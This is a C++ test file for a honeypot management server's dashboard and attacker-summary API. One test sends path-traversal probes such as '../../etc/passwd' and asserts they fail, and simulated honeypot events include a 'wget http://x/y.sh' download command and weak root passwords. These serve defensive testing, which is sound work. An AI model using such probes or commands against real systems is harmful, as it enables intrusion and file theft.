    EXPECT_EQ(res["X-Frame-Options"], "DENY") << what;
    EXPECT_EQ(res["Referrer-Policy"], "no-referrer") << what;
    EXPECT_EQ(res["X-Content-Type-Options"], "nosniff") << what;
  }

  static constexpr std::string_view kIndex =
      "<!doctype html><html><head><script type=\"module\" src=\"/assets/index-4f3a2b1c.js\"></script></head></html>";
  static constexpr std::string_view kScript = "console.log('honeycomb');";
  static constexpr std::string_view kSecret = "TOP-SECRET-NOT-FOR-THE-DASHBOARD";
  std::filesystem::path web_;
};

TEST_F(DashboardApiTest, FilesAreServedWithoutATokenWithTheirTypesAndCaching) {
  start();
  for (const char* target : {"/", "/index.html", "/?from=bookmark"}) {
    auto res = fetch(http::verb::get, target);
    ASSERT_EQ(res.result(), http::status::ok) << target;
    EXPECT_EQ(res.body(), kIndex) << target;
    EXPECT_EQ(res[http::field::content_type], "text/html; charset=utf-8") << target;
    EXPECT_EQ(res[http::field::cache_control], "no-cache") << target;
    EXPECT_FALSE(res[http::field::etag].empty()) << target;
    expect_security_headers(res, target);
  }

  auto res = fetch(http::verb::get, "/assets/index-4f3a2b1c.js");
  ASSERT_EQ(res.result(), http::status::ok);
  EXPECT_EQ(res.body(), kScript);
  EXPECT_EQ(res[http::field::content_type], "text/javascript; charset=utf-8");
  EXPECT_EQ(res[http::field::cache_control], "public, max-age=31536000, immutable");
  EXPECT_EQ(res[http::field::vary], "Accept-Encoding");
  EXPECT_TRUE(res[http::field::content_encoding].empty());
  expect_security_headers(res, "script");

  res = fetch(http::verb::get, "/assets/index-9e8d7c6b.css");
  ASSERT_EQ(res.result(), http::status::ok);
  EXPECT_EQ(res[http::field::content_type], "text/css; charset=utf-8");
  EXPECT_EQ(res[http::field::cache_control], "public, max-age=31536000, immutable");

  res = fetch(http::verb::get, "/favicon.svg");
  ASSERT_EQ(res.result(), http::status::ok);
  EXPECT_EQ(res[http::field::content_type], "image/svg+xml");
  EXPECT_EQ(res[http::field::cache_control], "no-cache");
  expect_security_headers(res, "favicon");

  // HEAD: the length without the body; the connection goes on with the
  // next response right after the header.
  auto socket = connect();
  buffer_.clear();
  for (const char* target : {"/", "/favicon.svg"}) {
    const bool head = std::string_view(target) == "/";
    http::request<http::empty_body> req{head ? http::verb::head : http::verb::get, target, 11};
    req.set(http::field::host, "127.0.0.1");
    req.keep_alive(true);
    http::write(socket, req);
    http::response_parser<http::string_body> parser;
    parser.skip(head);
    http::read(socket, buffer_, parser);
    res = parser.release();
    ASSERT_EQ(res.result(), http::status::ok) << target;
    if (head) {
      EXPECT_EQ(res[http::field::content_length], std::to_string(kIndex.size()));
      EXPECT_EQ(res[http::field::content_type], "text/html; charset=utf-8");
      EXPECT_TRUE(res.body().empty());
      expect_security_headers(res, "HEAD");
    } else {
      EXPECT_EQ(res.body(), "<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
    }
  }
}

TEST_F(DashboardApiTest, EtagRevalidationAndPrecompressedSiblings) {
  start();
  auto res = fetch(http::verb::get, "/index.html");
  const std::string etag(res[http::field::etag]);
  ASSERT_FALSE(etag.empty());
  res = fetch(http::verb::get, "/index.html", {{"If-None-Match", "\"other\", " + etag}});
  EXPECT_EQ(res.result(), http::status::not_modified);
  EXPECT_TRUE(res.body().empty());
  EXPECT_EQ(res[http::field::etag], etag);
  expect_security_headers(res, "304");
  EXPECT_EQ(fetch(http::verb::get, "/index.html", {{"If-None-Match", "\"other\""}}).result(), http::status::ok);

  res = fetch(http::verb::get, "/assets/index-4f3a2b1c.js", {{"Accept-Encoding", "br, gzip;q=0.8"}});
  ASSERT_EQ(res.result(), http::status::ok);
  EXPECT_EQ(res.body(), "GZIPPED-SCRIPT");
  EXPECT_EQ(res[http::field::content_encoding], "gzip");
  EXPECT_EQ(res[http::field::content_type], "text/javascript; charset=utf-8");
  const std::string gzip_etag(res[http::field::etag]);
  EXPECT_NE(gzip_etag, std::string(fetch(http::verb::get, "/assets/index-4f3a2b1c.js")[http::field::etag]));
  res = fetch(http::verb::get, "/assets/index-4f3a2b1c.js", {{"Accept-Encoding", "gzip;q=0"}});
  EXPECT_EQ(res.body(), kScript);
  // The sibling is an encoding of its file, not a file of its own.
  EXPECT_EQ(fetch(http::verb::get, "/assets/index-4f3a2b1c.js.gz").result(), http::status::unauthorized);
}

TEST_F(DashboardApiTest, TraversalAndEverythingElseStayClosed) {
  start();
  for (const char* target : {"/../secret.txt",
                             "/assets/../../secret.txt",
                             "/assets/../../etc/passwd",
                             "/%2e%2e/secret.txt",
                             "/assets/%2e%2e/%2e%2e/secret.txt",
                             "/assets/..%2f..%2fsecret.txt",
                             "/assets/%2E%2E/index.html",
                             "/assets/escape.txt",
                             "/assets\\..\\..\\secret.txt",
                             "//secret.txt",
                             "/./index.html",
                             "/assets//index-4f3a2b1c.js",
                             "/assets/./index-4f3a2b1c.js",
                             "/index.html/",
                             "/assets/",
                             "/assets",
                             "/nope.js",
                             "/web/index.html",
                             "/api/v1/nodes",
                             "/api/v1/nope",
                             "/metrics",
                             "/api"}) {
    auto res = fetch(http::verb::get, target);
    EXPECT_TRUE(res.result() == http::status::unauthorized || res.result() == http::status::not_found ||
                res.result() == http::status::bad_request)
        << target << ": " << res.result_int();
    EXPECT_EQ(res.body().find(kSecret), std::string::npos) << target;
    EXPECT_EQ(res.body().find("a file named like an API path"), std::string::npos) << target;
    EXPECT_EQ(res.body().find("root:"), std::string::npos) << target;
  }
  // Unknown paths and the API are the token's, as before.
  for (const char* target : {"/nope.js", "/assets/missing-00000000.js", "/api/v1/nodes", "/metrics"}) {
    auto res = fetch(http::verb::get, target);
    EXPECT_EQ(res.result(), http::status::unauthorized) << target;
    EXPECT_EQ(res[http::field::www_authenticate], "Bearer realm=\"honeycomb\"") << target;
    EXPECT_TRUE(res["Content-Security-Policy"].empty()) << target;
  }
  EXPECT_EQ(fetch(http::verb::post, "/").result(), http::status::unauthorized);
  EXPECT_EQ(fetch(http::verb::get, "/assets/missing-00000000.js", {}, token_).result(), http::status::not_found);
  EXPECT_EQ(fetch(http::verb::get, "/api/v1/nodes", {}, token_).result(), http::status::ok);
  auto metrics = fetch(http::verb::get, "/metrics", {}, token_);
  EXPECT_EQ(metrics.result(), http::status::ok);
  EXPECT_NE(metrics.body().find("honeycomb_api_requests_total"), std::string::npos);
}

TEST_F(DashboardApiTest, RequestsCountAgainstTheRateLimit) {
  config_.api_rate_per_second = 3;
  start();
  int limited = 0;
  for (int i = 0; i < 10; ++i) {
    limited += fetch(http::verb::get, "/").result() == http::status::too_many_requests ? 1 : 0;
  }
  EXPECT_GE(limited, 5);
}

TEST_F(ApiServerTest, DashboardNotBuiltSaysHowToBuildIt) {
  dashboard_ = std::make_shared<const api::Dashboard>();
  start();
  for (const char* target : {"/", "/index.html"}) {
    auto res = fetch(http::verb::get, target);
    ASSERT_EQ(res.result(), http::status::ok) << target;
    EXPECT_EQ(res[http::field::content_type], "text/html; charset=utf-8");
    EXPECT_NE(res.body().find("scripts/build-web.sh"), std::string::npos);
    EXPECT_EQ(res.body().find("src="), std::string::npos) << "self-contained";
    EXPECT_EQ(res.body().find("href="), std::string::npos) << "self-contained";
    EXPECT_EQ(res["Content-Security-Policy"], kCsp);
    EXPECT_EQ(res[http::field::cache_control], "no-store");
  }
  EXPECT_EQ(fetch(http::verb::get, "/assets/index-4f3a2b1c.js").result(), http::status::unauthorized);
  EXPECT_EQ(fetch(http::verb::get, "/favicon.svg").result(), http::status::unauthorized);
  EXPECT_EQ(fetch(http::verb::get, "/api/v1/nodes").result(), http::status::unauthorized);
}

TEST_F(ApiServerTest, DashboardOffLeavesTheRootToTheToken) {
  std::string error;
  spdlog::logger log("test");
  dashboard_ = api::open_dashboard("none", log, error);
  EXPECT_EQ(dashboard_, nullptr);
  EXPECT_EQ(error, "");
  start();
  for (const char* target : {"/", "/index.html", "/favicon.svg"}) {
    auto res = fetch(http::verb::get, target);
    EXPECT_EQ(res.result(), http::status::unauthorized) << target;
    EXPECT_TRUE(res["Content-Security-Policy"].empty()) << target;
  }
  EXPECT_EQ(fetch(http::verb::get, "/", {}, token_).result(), http::status::not_found);
}

// ---- info and attackers ----

TEST_F(ApiServerTest, InfoTellsTheStreamAndTheTokensScope) {
  config_.ws_listen = Listen{"127.0.0.1", 9443};
  const auto viewer = auth_->create("viewer", Scope::read);
  start();
  auto res = fetch(http::verb::get, "/api/v1/info", {}, viewer);
  ASSERT_EQ(res.result(), http::status::ok) << res.body();
  auto v = body_json(res);
  EXPECT_TRUE(v.at("version").is_string());
  EXPECT_FALSE(v.at("version").as_string().empty());
  EXPECT_EQ(v.at("ws_port"), 9443);
  EXPECT_EQ(v.at("ws_path"), "/api/v1/stream");
  EXPECT_EQ(v.at("ws_tls"), false);
  EXPECT_EQ(v.at("token"), json::parse(R"({"name":"viewer","scope":"read"})"));
  EXPECT_EQ(v.as_object().size(), 5U);

  server_->set_ws_port(41234);  // the WebSocket server's bound port (ws_listen port 0)
  v = body_json(get("/api/v1/info"));
  EXPECT_EQ(v.at("ws_port"), 41234);
  EXPECT_EQ(v.at("token"), json::parse(R"({"name":"test","scope":"admin"})"));
  const auto manager = auth_->create("ops", Scope::manage);
  EXPECT_EQ(body_json(fetch(http::verb::get, "/api/v1/info", {}, manager)).at("token").at("scope"), "manage");

  EXPECT_EQ(fetch(http::verb::get, "/api/v1/info").result(), http::status::unauthorized);
  EXPECT_EQ(request(http::verb::post, "/api/v1/info").result(), http::status::method_not_allowed);
  EXPECT_EQ(get("/api/v1/info?x=1").result(), http::status::bad_request);
}

TEST_F(ApiServerTest, AttackerAcrossNodesAndPots) {
  register_node(kBigNode, "sensor-1");
  const std::string ip = "203.0.113.9";
  std::vector<events::Event> batch;
  auto add = [&](const std::string& src, protocol::NodeId node, const std::string& pot, const std::string& type,
                 std::int64_t t, const std::string& user, const std::string& password, const std::string& command,
                 const std::string& session) {
    auto e = event(pot, type, src, t);
    e.node_id = node;
    e.username = user;
    e.password = password;
    e.command = command;
    e.session = session;
    batch.push_back(std::move(e));
  };
  add(ip, kBigNode, "p1", "cowrie.login.failed", 1'700'000'000, "root", "123456", "", "s1");
  add(ip, kBigNode, "p1", "cowrie.login.failed", 1'700'000'001, "root", "123456", "", "s1");
  add(ip, kBigNode, "p1", "cowrie.login.success", 1'700'000'002, "root", "toor", "", "s1");
  add(ip, kBigNode, "p1", "cowrie.command.input", 1'700'000'003, "", "", "uname -a", "s1");
  add(ip, 7, "p2", "cowrie.login.failed", 1'700'000'100, "admin", "", "", "s2");
  add(ip, 7, "p2", "cowrie.command.input", 1'700'000'101, "", "", "uname -a", "s2");
  add(ip, 7, "p2", "cowrie.command.input", 1'700'000'102, "", "", "wget http://x/y.sh", "s2");
  add("198.51.100.7", kBigNode, "p1", "cowrie.login.failed", 1'700'000'500, "root", "123456", "id", "s9");
  add("2001:db8::9", kBigNode, "p1", "cowrie.login.failed", 1'700'000'600, "v6", "pw", "", "s6");
  store(std::move(batch));
  start();

  auto res = get("/api/v1/attackers/" + ip);
  ASSERT_EQ(res.result(), http::status::ok) << res.body();
  EXPECT_NE(res.body().find("\"node_id\":16298147445003569694"), std::string::npos) << "exact uint64";
  auto v = body_json(res);
  EXPECT_EQ(v.at("src_ip"), ip.c_str());
  EXPECT_EQ(v.at("event_count"), 7);
  EXPECT_EQ(v.at("summarised_events"), 7);
  EXPECT_EQ(v.at("first_seen"), "2023-11-14T22:13:20.000000Z");
  EXPECT_EQ(v.at("last_seen"), "2023-11-14T22:15:02.000000Z");
  ASSERT_EQ(v.at("nodes").as_array().size(), 2U);
  EXPECT_EQ(v.at("nodes").at(0).at("node_id").as_uint64(), kBigNode);
  EXPECT_EQ(v.at("nodes").at(0).at("node_name"), "sensor-1");
  EXPECT_EQ(v.at("nodes").at(0).at("count"), 4);
  EXPECT_EQ(v.at("nodes").at(1), json::parse(R"({"node_id":7,"node_name":null,"count":3})"));
  EXPECT_EQ(v.at("pots"), json::parse(R"([{"pot_id":"p1","pot_type":"cowrie","count":4},
                                           {"pot_id":"p2","pot_type":"cowrie","count":3}])"));
  EXPECT_EQ(v.at("event_types"), json::parse(R"([{"value":"cowrie.command.input","count":3},
                                                  {"value":"cowrie.login.failed","count":3},
                                                  {"value":"cowrie.login.success","count":1}])"));
  EXPECT_EQ(v.at("credentials"), json::parse(R"([{"username":"root","password":"123456","count":2},
                                                  {"username":"admin","password":null,"count":1},
                                                  {"username":"root","password":"toor","count":1}])"));
  EXPECT_EQ(v.at("commands"), json::parse(R"([{"value":"uname -a","count":2},
                                               {"value":"wget http://x/y.sh","count":1}])"));
  ASSERT_EQ(v.at("sessions").as_array().size(), 2U);
  EXPECT_EQ(v.at("sessions").at(0), json::parse(R"({"session":"s2","pot_id":"p2","node_id":7,
      "first":"2023-11-14T22:15:00.000000Z","last":"2023-11-14T22:15:02.000000Z","events":3})"));
  EXPECT_EQ(v.at("sessions").at(1).at("session"), "s1");
  EXPECT_EQ(v.at("sessions").at(1).at("events"), 4);
  EXPECT_EQ(v.at("sessions").at(1).at("node_id").as_uint64(), kBigNode);

  // The same address written IPv4-mapped; an IPv6 address.
  v = body_json(get("/api/v1/attackers/::ffff:" + ip));
  EXPECT_EQ(v.at("src_ip"), ip.c_str());
  EXPECT_EQ(v.at("event_count"), 7);
  v = body_json(get("/api/v1/attackers/2001:db8:0:0::9"));
  EXPECT_EQ(v.at("src_ip"), "2001:db8::9");
  EXPECT_EQ(v.at("event_count"), 1);
  EXPECT_EQ(v.at("credentials"), json::parse(R"([{"username":"v6","password":"pw","count":1}])"));

  // Never seen: zeros, not 404.
  res = get("/api/v1/attackers/192.0.2.200");
  ASSERT_EQ(res.result(), http::status::ok);
  EXPECT_EQ(body_json(res),
            json::parse(R"({"src_ip":"192.0.2.200","event_count":0,"summarised_events":0,"first_seen":null,
      "last_seen":null,"nodes":[],"pots":[],"event_types":[],"credentials":[],"commands":[],"sessions":[]})"));

  for (const char* bad : {"nope", "203.0.113", "203.0.113.9.1", "10.0.0.0%2F8", "203.0.113.256", "%00", "1.2.3.4%20"}) {
    auto r = get(std::string("/api/v1/attackers/") + bad);
    EXPECT_EQ(r.result(), http::status::bad_request) << bad << ": " << r.body();
    EXPECT_EQ(body_json(r).at("status"), 400) << bad;
  }
  EXPECT_EQ(get("/api/v1/attackers").result(), http::status::not_found);
  EXPECT_EQ(get("/api/v1/attackers/" + ip + "?top=5").result(), http::status::bad_request);
  EXPECT_EQ(fetch(http::verb::get, "/api/v1/attackers/" + ip).result(), http::status::unauthorized);
  const auto viewer = auth_->create("viewer", Scope::read);
  EXPECT_EQ(fetch(http::verb::get, "/api/v1/attackers/" + ip, {}, viewer).result(), http::status::ok);
}

}  // namespace
}  // namespace honeycomb::core
